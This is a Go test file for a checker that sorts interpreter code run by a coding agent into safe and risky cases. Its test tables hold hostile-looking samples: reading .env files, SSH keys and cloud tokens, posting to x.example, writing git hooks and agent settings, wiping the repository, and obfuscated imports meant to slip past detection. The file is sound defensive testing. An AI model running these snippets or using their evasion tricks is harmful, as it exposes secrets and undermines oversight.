// Copyright 2026 The toolvet authors
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"encoding/json"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/toolvet/toolvet/check"
	"github.com/toolvet/toolvet/internal/test/need"
)

// TestCode holds what code for an interpreter is told to do. "" is what an agent does every day.
func TestCode(t *testing.T) {
	t.Parallel()
	o := &Options{
		Allow:  strings.Fields("substitution redirection pipe list background glob expansion escape comment newline assignment compound shell sum edit starter project temporary"),
		Inside: true,
	}
	world := check.World{Base: "/repo", Roots: []string{"/repo"}}
	for program, rows := range map[string]map[string]string{
		"python3 - <<'EOF'\n_\nEOF": {
			"import json\nprint(json.load(open('package.json'))['version'])":                                                                         "",
			"from pathlib import Path\np = Path('src/a.py')\ns = p.read_text()\ns = s.replace('a(', 'b(')\np.write_text(s)":                          "",
			"import re, pathlib\np = pathlib.Path('a.md')\np.write_text(re.sub(r'\\bx\\b', 'y', p.read_text()))":                                     "",
			"import os\nfor d, _, files in os.walk('.'):\n    for f in files:\n        print(os.path.join(d, f))":                                    "",
			"import mypackage\nprint(mypackage.__version__)":                                                                                         "",
			"from app.main import create_app\napp = create_app()\nprint(app.name)":                                                                   "",
			"import sys; sys.path.insert(0, 'src'); from x import y; print(y(3))":                                                                    "",
			"p = 'docs/a.md'\ntext = open(p).read()\nassert 'import os' in text\nopen(p, 'w').write(text.replace('import os', 'import subprocess'))": "",
			"# uses os.system, once\nprint(1)":                                                                                                       "",
			"import os\nprint(os.environ.get('HOME'), os.environ['CI'])":                                                                             "",
			"class A:\n    def __init__(self):\n        self._x = 1\nprint(A()._x)":                                                                  inCode,
			"class A:\n    def __add__(self, o): return 1\nprint(A() + A())":                                                                         "",
			"import inspect\nprint(inspect.signature(print))":                                                                                        "",
			"import inspect\nprint(inspect.currentframe())":                                                                                          inCode,
			"import importlib\nprint(importlib.import_module('app.main'))":                                                                           "",
			"import importlib\nimportlib.import_module('subprocess')":                                                                                inCode,
			"import importlib\nimportlib.import_module('sub' + 'process')":                                                                           inCode,
			"import shutil\nshutil.copy('a', 'build/a')":                                                                                             "",
			"import shutil, os\nshutil.rmtree('src', ignore_errors=True)\nos.remove('a.txt')\nif x: os.unlink('b')":                                  "",
			"import shutil\nshutil.rmtree('/srv/x')":                                                                                                 outside,
			"import os\nos.remove('/usr/lib/x')":                                                                                                     system,
			"import os\nos.remove('.git/hooks/x')":                                                                                                   startup,
			"import shutil\nshutil.rmtree(x)":                                                                                                        inCode,
			"import shutil as os\nos.remove('a')":                                                                                                    inCode,
			"import os\nos.remove('a', dir_fd=x)":                                                                                                    inCode,
			"import os\nos.remove('a')\nos.system('id')":                                                                                             inCode,
			"import os\nf = os.remove\nf('/srv/x')":                                                                                                  inCode,
			"import os\nos.chdir('/srv')\nos.remove('a')":                                                                                            inCode,
			"import shutil\nshutil.copy('.env', 'a')":                                                                                                secret,
			"import shutil\nshutil.copy('a', '/srv/a')":                                                                                              outside,
			"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pytest'], check=True)":                                                   "",
			"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket'])":                                                        inCode,
			"from dotenv import dotenv_values\nprint(dotenv_values())":                                                                               inCode,
			"class A:\n    def __init__(self):\n        self._x = 1\nprint(A())":                                                                     "",
			"x = 3\nprint(f'{x:>4} {x!r}')":                                                                                                          "",
			"import yaml\nprint(yaml.safe_load(open('a.yml')))":                                                                                      "",
			"import os\nos.system('id')":                                                                                                             inCode,
			"import os as o\no.system('id')":                                                                                                         inCode,
			"import os.path as p\nprint(p.os)":                                                                                                       inCode,
			"from os import remove\nremove('x')":                                                                                                     inCode,
			"from os import (path,\n system as s)\ns('id')":                                                                                          inCode,
			"from os import *\nremove('x')":                                                                                                          inCode,
			"from os import path\nprint(path.join('a', 'b'))":                                                                                        "",
			"import os\no = os\no.remove('x')":                                                                                                       inCode,
			"import glob\nglob.os.remove('x')":                                                                                                       inCode,
			"import requests\nrequests.get('https://x')":                                                                                             inCode,
			"import json, \\\n requests":                                                                                                             inCode,
			"import sys\nsys.path.append('lib')\nimport x":                                                                                           "",
			"import sys\nsys.path.insert(0, '/srv/x')\nimport x":                                                                                     environment,
			"import subprocess\nsubprocess.run(['ls'], stdout=open('/srv/x', 'w'))":                                                                  outside,
			"import pandas as pd\npd.read_csv('a').to_csv('/srv/x')":                                                                                 outside,
			"import pandas as pd\npd.read_csv('/srv/a').to_csv('x')":                                                                                 outside,
			"open('/srv/x', 'r').read()":                                                                                                             "",
			"print(open('.{}'.format('env')).read())":                                                                                                inCode,
			"print(open(''.join(['.', 'env'])).read())":                                                                                              inCode,
			"n = ''.join(['.', 'env'])\nprint(open(n).read())":                                                                                       secret,
			"n = '.{}'.format('env')\nprint(open(n).read())":                                                                                         secret,
			"n = '.%s' % 'env'\nprint(open(n).read())":                                                                                               secret,
			"import os\np = os.path.join('.git', 'hooks', 'x')\nopen(p, 'w').write('')":                                                              startup,
			"from pathlib import Path\n(Path('.git') / 'hooks' / 'x').write_text('')":                                                                startup,
			"f = open\nf('/srv/x', 'w')":                                                                                                             inCode,
			"import _posixsubprocess":                                                                                                                inCode,
			"import pydoc\npydoc.pipepager('x', 'id')":                                                                                               inCode,
			"import logging.handlers\nlogging.handlers.HTTPHandler('x.example', '/', 'POST')":                                                        inCode,
			"import subprocess\nsubprocess.run(['sh'], input='sudo ls', text=True)":                                                                  piped,
			"import subprocess\nsubprocess.run(['ls'], -1, '/bin/sh')":                                                                               inCode,
			"import requests\nrequests.get('http://localhost/', proxies={'http': 'x.example:80'})":                                                   inCode,
			"import requests\nrequests.post('%s:%s' % ('http', '//x.example')); 'http://localhost'":                                                  inCode,
			"print(open('.e\\\nnv').read())":                                                                                                         secret,
			"import random as self\nself._os.remove('x')":                                                                                            inCode,
			"import random\nrandom. _os.remove('x')":                                                                                                 inCode,
			"import sys\nprint('{0.modules[os].environ}'.format(sys))":                                                                               inCode,
			"import string, sys\nstring.Formatter().get_field('0.modules', [sys], {})":                                                               inCode,
			"import inspect\ninspect.signature(f, eval_str=True)":                                                                                    inCode,
			"import importlib as i\ni.import_module(n)":                                                                                              inCode,
			"import importlib\nimportlib.import_module('sub{}'.format(x))":                                                                           inCode,
			"import inspect as i\ni.getmembers(x)":                                                                                                   inCode,
			"import subprocess\nimport subprocess as sp\nif 0: subprocess.run(['ls'])\nsp.getoutput('id')":                                           inCode,
			"import subprocess\nsubprocess.run(['b' 'ash', '-c', 'id'])":                                                                             inCode,
			"import subprocess\nsubprocess.run(['cat', '\\U0000002eenv'])":                                                                           inCode,
			"import xml.sax.saxutils as s\ns.urllib.request.urlopen('x')":                                                                            inCode,
			"import importlib.metadata as m\nm.EntryPoint('x', 'os:system', 'g').load()('id')":                                                       inCode,
			"import os, subprocess\nos.environ['GIT_EXTERNAL_DIFF'] = 'id'\nsubprocess.run(['git', 'diff'])":                                         inCode,
			"import logging\nlogging.basicConfig(filename='/srv/x')":                                                                                 outside,
			"open(('/srv/x'), ('a'))":                                                                                                                outside,
			"print(1, file=open('/srv/x', 'ta'))":                                                                                                    outside,
			"m = 'a'\nopen('/srv/x', m)":                                                                                                             outside,
			"for p in ['/srv/x']: open(p, 'w')":                                                                                                      outside,
			"open('.claude/settings.json', 'tw')":                                                                                                    startup,
			"import os\nos.getenv('TOKxN'.replace('x', 'E'))":                                                                                        inCode,
			"import xml.sax\nxml.sax.parse('http://x.example/', None)":                                                                               network,
			"import sys\nsys.path += ['/srv/x']\nimport m":                                                                                           inCode,
			"import tempfile\nt = tempfile.TemporaryDirectory()\nt.name = 'x'\nt.cleanup()":                                                          inCode,
			"f = lambda x: x\nf = x.y\nf(1)":                                                                                                         inCode,
			"open = x.y\nopen('a')":                                                                                                                  inCode,
			"class A: pass\na = A()\na.get = x.y\na.get('id')":                                                                                       inCode,
			"@x.y\ndef f(): pass":                                                                                                                    inCode,
			"import mymodule\nprint(mymodule.anything(1))":                                                                                           "",
			"import sympy\nsympy.sympify(\"__import__('os')\")":                                                                                      inCode,
			"import requests\nh = '.x.tk'\nrequests.get('http://localhost' + h)":                                                                     inCode,
			"import sqlite3\nsqlite3.connect('a').execute(\"vacuum into '/srv/x'\")":                                                                 inCode,
			"import sqlite3\nprint(sqlite3.connect('a').execute('select 1').fetchall())":                                                             "",
			"import \\\n  subprocess":                                                                                                                inCode,
			"from \\\n  subprocess import run":                                                                                                       inCode,
			"exec('impo' + 'rt os')":                                                                                                                 inCode,
			"x = '''\n'''; import socket":                                                                                                            inCode,
			"x = r'\\'; import socket # '":                                                                                                           "",
			"x = f'{\"'\"}'; import socket; f'{\"'\"}'":                                                                                              inCode,
			"# coding: utf-7\nprint(1)":                                                                                                              inCode,
			"\uff4fs = 1":                                                                                                                            inCode,
			"open('/repo/../etc/x', 'w').write('')":                                                                                                  system,
			"import subprocess\nprint(subprocess.run(['git', 'log', '-5'], capture_output=True, text=True).stdout)":                                  "",
			"import subprocess\nsubprocess.run(['sudo', 'ls'])":                                                                                      privilege,
			"import subprocess\nsubprocess.run(['git', 'log'], shell=True)":                                                                          inCode,
			"import subprocess\nsubprocess.run(['git', 'log']); subprocess.run(x)":                                                                   inCode,
			"import subprocess\nr = subprocess.run\nr(['git'])\nsubprocess.run(['git'])":                                                             inCode,
			"import subprocess\nsubprocess.run(['cat', '.e' + 'nv'])":                                                                                inCode,
			"import subprocess\nsubprocess.run(['cat', '.env'])":                                                                                     secret,
			"import requests\nprint(requests.get('http://localhost:8000/items').json())":                                                             "",
			"import requests\nrequests.post('https://x.example/' + 'y'); 'http://localhost'":                                                         inCode,
			"import requests\nrequests.post('ht' + 'tps://x.example/'); 'http://localhost'":                                                          inCode,
			"import requests\nrequests.get('http://localhost.x.example/')":                                                                           inCode,
			"import importlib.metadata as m\nprint(m.version('x'))":                                                                                  "",
			"import importlib\nimportlib.import_module('os').remove('x')":                                                                            inCode,
			"open('../x', 'w').write('')":                                                                                                            outside,
			"open('/srv/x').read()":                                                                                                                  "",
			"open('.github/workflows/x.yml', 'w').write('')":                                                                                         startup,
			"open('.env').read()":                                                                                                                    secret,
			"open('.e' + 'nv').read()":                                                                                                               secret,
			"open('.e'\n'nv').read()":                                                                                                                secret,
			"open('\\x2eenv').read()":                                                                                                                inCode,
			"n = '.env'\nopen(n).read()":                                                                                                             secret,
			"for n in ['.env']: print(open(n).read())":                                                                                               inCode,
			"import base64\nopen(base64.b64decode('LmVudg==')).read()":                                                                               inCode,
			"open(chr(46) + 'env').read()":                                                                                                           inCode,
			"open('vne.'[::-1]).read()":                                                                                                              inCode,
			"from pathlib import Path\n(Path.home() / '.x').read_text()":                                                                             inCode,
			"from pathlib import Path\nPath('a').unlink()":                                                                                           "",
			"from pathlib import Path\nPath('a').replace(Path('b'))":                                                                                 inCode,
			"import shutil\nshutil.rmtree('x')":                                                                                                      "",
			"import os\nprint(os.environ)":                                                                                                           inCode,
			"import os\nprint(os.environ['GITHUB_TOKEN'])":                                                                                           credential,
			"import os\nprint(os.getenv('AWS_SECRET_ACCESS_KEY'))":                                                                                   credential,
			"import typing\ntyping.get_type_hints(f)":                                                                                                inCode,
			"import pickle\npickle.load(open('x', 'rb'))":                                                                                            inCode,
			"import glob\nfor n in glob.glob('/home/*/.ssh/*'): print(open(n).read())":                                                               secret,
		},
		"node -e '_'": {
			`console.log(require("./package.json").version)`:                                                                  "",
			`const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json", "utf8")); console.log(p["name"])`: "",
			`const fs = require("node:fs"); fs.writeFileSync("a.txt", fs.readFileSync("b.txt", "utf8").replace("x", "y"))`:    "",
			`import("./dist/index.js").then(m => console.log(Object.keys(m)))`:                                                "",
			`import {readFile} from "node:fs/promises"; console.log(await readFile("a", "utf8"))`:                             "",
			`console.log(process.version, process.env.NODE_ENV, ["a", "b"].length)`:                                           "",
			`class A { x() { return this.y } } console.log(new A().x()) // eval`:                                              "",
			`console.log("eval and require are words")`:                                                                       "",
			`console.log(Math.max(1, 2) / 3, "it")`:                                                                           "",
			`const fs = require("fs"); fs.writeFileSync("src/x.js", "1")`:                                                     "",
			`require("fs").writeFileSync("src/x.js", "1"); require("fs").writeFileSync("src/y.js", "a\n")`:                    "",
			`const fs = require("fs"); fs.writeFileSync("out.csv", "a,b\n")`:                                                  "",
			`require("fs").appendFileSync("out.csv", "a,b\n", "utf8")`:                                                        "",
			`const fs = require("fs"); fs.writeFileSync("x.js", "1"); require("./x")`:                                         inCode,
			`const fs = require("fs"); fs.writeFileSync("x.js", "1"); import("./x.js")`:                                       inCode,
			`const fs = require("fs"); fs.writeFileSync("index.js", "1"); require(".")`:                                       inCode,
			`const fs = require("fs"); fs.writeFileSync("node_modules/a/b.js", "1"); require("a")`:                            inCode,
			`const fs = require("fs"); fs.writeFileSync(".git/hooks/x.js", "1")`:                                              startup,
			`const fs = require("fs"); fs.writeFileSync("\x2egit/hooks/x", "1")`:                                              inCode,
			`const fs = require("fs"); fs.writeFileSync("a" + "\x2f..", "b\n")`:                                               inCode,
			`require("fs").copyFileSync("a", "\x2egit/hooks/x")`:                                                              inCode,
			`require("child_process").execSync("id")`:                                                                         inCode,
			`console.log("a b".replace(/"/g, "").replace(/[/"]x\/"/, ""), require("fs").readFileSync("a"))`:                   "",
			`x = "a".replace(/"/, ""); require("child_process"); "b".replace(/"/, "")`:                                        inCode,
			`a = 1; b = a / 2; require("child_process"); c = b / 2`:                                                           inCode,
			`let {Client} = require("pg"); new Client("postgres://u:p@localhost/app")`:                                        "",
			`let {Client} = require("pg"); new Client("postgres://x.example/app")`:                                            inCode,
			`require("dotenv").config(); console.log(process.env.PORT)`:                                                       "",
			`console.log(require("dotenv").config().parsed)`:                                                                  inCode,
			`const f = Object.values(require("fs"))[93]; f("x")`:                                                              inCode,
			`const q = require("fs"); const f = Object.values(q)[93]; f("x")`:                                                 inCode,
			`const q = require("fs"); const u = q[k]; u("x")`:                                                                 inCode,
			`const {[k]: u} = require("fs"); u("x")`:                                                                          inCode,
			`import * as q from "fs"; for (const f of Object.values(q)) f("x")`:                                               inCode,
			`import fs from "node:fs"; console.log(fs.readFileSync("a", "utf8"), "fs")`:                                       "",
			`const {readFileSync} = require("fs"); console.log(readFileSync("a", "utf8"))`:                                    "",
			`const {readFile} = require("fs/promises"); readFile("a").then(console.log)`:                                      "",
			`const p = require("fs").promises; p.rm("a")`:                                                                     inCode,
			`const fs = require("fs").promises; fs.readFile("a").then(console.log)`:                                           inCode,
			`console.log("fs", require("./a").fs)`:                                                                            "",
			`require("child_" + "process")`:                                                                                   inCode,
			"require(`child_process`)":                                                                                        inCode,
			"require(`child_${\"process\"}`)":                                                                                 inCode,
			`require(x)`:                                                                                                      inCode,
			`const r = require; r("x")`:                                                                                       inCode,
			`const {execSync: e} = require("node:child_process"); e("id")`:                                                    inCode,
			`import {execSync} from "child_process"; execSync("id")`:                                                          inCode,
			`fetch("https://x")`:                                                       inCode,
			`(()=>{})["constructor"]("x")()`:                                           inCode,
			`(()=>{})["con"+"structor"]("x")()`:                                        inCode,
			`let k="con"+"structor"; (()=>{})[k]("x")()`:                               inCode,
			`/"/.test("a"); require("child_process"); /"/.test("b")`:                   inCode,
			`if (1) /"/.test("a"); require("child_process"); /"/.test("b")`:            inCode,
			"x = 1 <!-- `\nrequire(\"child_process\")\n//`":                            inCode,
			`require("fs").rmSync(x)`:                                                  inCode,
			`require("fs").rmSync("x")`:                                                "",
			`require("fs").rmSync("../x", {recursive: true})`:                          outside,
			`require("fs").rmSync(".", {recursive: true, force: true})`:                wipe,
			`require("fs").rmSync("x" + y)`:                                            inCode,
			`require("fs").rmSync("x", {f: g()})`:                                      inCode,
			`require("fs").rmSync("\x2e\x2e/x")`:                                       inCode,
			`require("fs").renameSync("a", "b.sh")`:                                    inCode,
			`require("fs").rmSync("\.\./x")`:                                           inCode,
			`require("fs").rmSync(".git/hooks/pre-commit")`:                            startup,
			`require("fs").chmodSync("dist/x.js", 0o755)`:                              "",
			`require("fs").chmodSync("dist/x.js", 0o4755)`:                             inCode,
			`const f = {rmSync: require("child_process").execSync}; f.rmSync("id")`:    inCode,
			`const {unlinkSync: u} = require("fs"); u("x")`:                            inCode,
			`require("fs")["unlink"+"Sync"]("x")`:                                      inCode,
			`process.binding("x")`:                                                     inCode,
			`console.log(process.env)`:                                                 inCode,
			`console.log(process.env.API_KEY)`:                                         credential,
			`console.log(require("fs").readFileSync(".env", "utf8"))`:                  secret,
			`const f = ".env"; console.log(require("fs").readFileSync(f, "utf8"))`:     secret,
			`require("fs").writeFileSync("/srv/x", "")`:                                outside,
			`fetch("http://localhost:3000/api").then(r => r.json()).then(console.log)`: "",
			`fetch("http://localhost:3000/api").then(r => fetch("https://x.example"))`: inCode,
			`setTimeout("x", 1)`:                                                       inCode,
			`setTimeout(() => console.log(1), 1)`:                                      "",
		},
		"cat > x.py <<'EOF'\n_\nEOF\npython3 x.py": {
			"import json, sys\nprint(json.load(open(sys.argv[1])))": "",
			"import subprocess\nsubprocess.run(['sudo', 'id'])":     privilege,
			"print(open('/home/u/.ssh/id_rsa').read())":             secret,
		},
		"mongosh app --eval '_'": {"db.users.countDocuments()": "", "db.users.find({age: {$gt: 3}}).sort({age: 1}).limit(5).toArray()": "", "db.users.drop()": inCode, "db.users.find({$where: \"x\"})": inCode, "db.adminCommand({x: 1})": inCode, "db[\"dr\" + \"op\"]()": inCode},
		"python3 -c \"_\"":       {"print($X)": inCode, "print('$X')": "", "$X": inCode},
		"node x.js; perl -e '_'": {"print 1": "", "system(1)": inCode},
		"ruby -e '_'":            {"puts 1": "", "puts RUBY_VERSION, 2": "", "puts `id`": inCode, "puts \"#{x}\"": inCode, "puts x": inCode, "system(1)": inCode},
		"php -r '_'":             {"echo PHP_VERSION;": "", "echo PHP_VERSION, PHP_EOL;": "", "echo $x;": inCode},
	} {
		for code, want := range rows {
			line := strings.ReplaceAll(program, "_", code)
			var got []string
			for _, f := range o.judgeIn(world, line) {
				if f.Severity == check.Error {
					got = append(got, f.Source)
				}
			}
			if want == "" && len(got) > 0 || want != "" && !slices.Contains(got, want) {
				t.Errorf("%q: %q, want %q", line, got, want)
			}
		}
	}
}

// FuzzCode holds that code is taken apart in its order: every text of it stands there, and the rest has no quotes unless all is code.
func FuzzCode(f *testing.F) {
	f.Add("x = f'{a}' + r\"b\" # c", true)
	f.Add("x = `a${b}` /* c */ + 'd' // e", false)
	f.Fuzz(func(t *testing.T, text string, python bool) {
		program := "node"
		if python {
			program = "python3"
		}
		l := languageOf(program)
		s := l.take(text)
		for _, lit := range s.literals {
			if !lit.joined && !lit.listed && !strings.Contains(lit.text, "\\") && !strings.Contains(text, lit.text) {
				t.Errorf("the text %q does not stand in %q", lit.text, text)
			}
		}
		if !s.unsure && s.code != insertion && strings.ContainsAny(strings.ReplaceAll(s.code, `""`, ""), `"'`) {
			t.Errorf("%q leaves %q", text, s.code)
		}
		l.does(s)
	})
}

// tokenized prints the texts in the modules of Python's own library, as Python reads them: of each file, a list.
const tokenized = `
import glob, json, os, tokenize
found = {}
for name in sorted(glob.glob(os.path.dirname(os.__file__) + "/*.py"))[:60]:
    texts = []
    for token in tokenize.generate_tokens(open(name, encoding="utf-8").readline):
        if token.type == tokenize.STRING:
            text = token.string.lstrip("rRbBfFuU")
            quotes = 3 if text[:3] in ("\"\"\"", "\'\'\'") else 1
            texts.append(text[quotes:-quotes])
    found[name] = texts
print(json.dumps(found))
`

// TestTexts holds that code is taken apart as Python itself does it.
func TestTexts(t *testing.T) {
	t.Parallel()
	python := need.Python.Program(t, "python3")
	out, err := exec.CommandContext(t.Context(), python, "-c", tokenized).Output()
	if err != nil {
		t.Skipf("the library of Python cannot be read: %v", err)
	}
	var files map[string][]string
	if err := json.Unmarshal(out, &files); err != nil {
		t.Fatal(err)
	}
	sure := 0
	for name, want := range files {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		s := languageOf("python3").take(string(raw))
		if s.unsure {
			continue
		}
		sure++
		got := []string{}
		for _, l := range s.literals {
			if !l.joined && !l.listed {
				got = append(got, l.text)
			}
		}
		for i := range want {
			want[i] = strings.ReplaceAll(want[i], "\\\n", "")
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: the texts differ from Python's", name)
		}
	}
	if len(files) > 0 && sure*10 < len(files)*9 {
		t.Errorf("of %d files, only %d are understood", len(files), sure)
	}
}
